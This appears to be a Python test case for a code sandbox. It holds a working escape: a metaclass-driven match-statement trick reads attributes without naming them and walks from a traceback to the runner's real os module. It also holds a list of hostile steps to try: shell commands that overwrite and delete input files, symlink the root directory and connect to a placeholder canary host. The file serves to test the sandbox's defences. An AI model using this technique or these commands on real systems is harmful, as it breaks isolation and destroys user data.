# attack: a class pattern whose metaclass computes __match_args__ at run time makes C code read any attribute (no name in the source): traceback -> frames -> the runner's globals -> the real os
# expect: precheck:positional-class-pattern
# unguarded: any
import abc


def harm(os):
    """What an escape would do: every step must be stopped by a wall below."""
    steps = [
        lambda: os.system("echo pwned >> /input/data.csv; echo pwned > /input/new.txt; "
                          "echo pwned > /tmp/escaped; "
                          "python3 -c \"import socket; socket.create_connection(('CANARY_HOST', CANARY_PORT), 2)\""),
        lambda: os.remove("/input/data.csv"),
        lambda: os.rename("/input/book.xlsx", "/input/moved.xlsx"),
        lambda: os.symlink("/input/data.csv", "/output/link.csv"),
        lambda: os.symlink("/", "/output/root"),
        lambda: os.mkfifo("/output/fifo"),
        lambda: os.open("/input/data.csv", os.O_WRONLY | os.O_TRUNC),
    ]
    for step in steps:
        try:
            step()
        except Exception as exc:
            print("blocked:", repr(exc)[:120])


def attr(obj, *parts):
    name = "".join(parts)

    class M(abc.ABCMeta):
        @property
        def __match_args__(cls):
            return (name,)

        def __instancecheck__(cls, other):
            return True

    class C(metaclass=M):
        pass

    match obj:
        case C(value):
            return value


try:
    1 / 0
except ZeroDivisionError as exc:
    tb = attr(exc, "__", "traceback", "__")
frame = attr(tb, "tb", "_frame")
while frame is not None:
    names = attr(frame, "f", "_globals")
    if "os" in names and "__builtins__" in names:
        harm(names["os"])
        break
    frame = attr(frame, "f", "_back")
else:
    raise RuntimeError("walk found nothing")
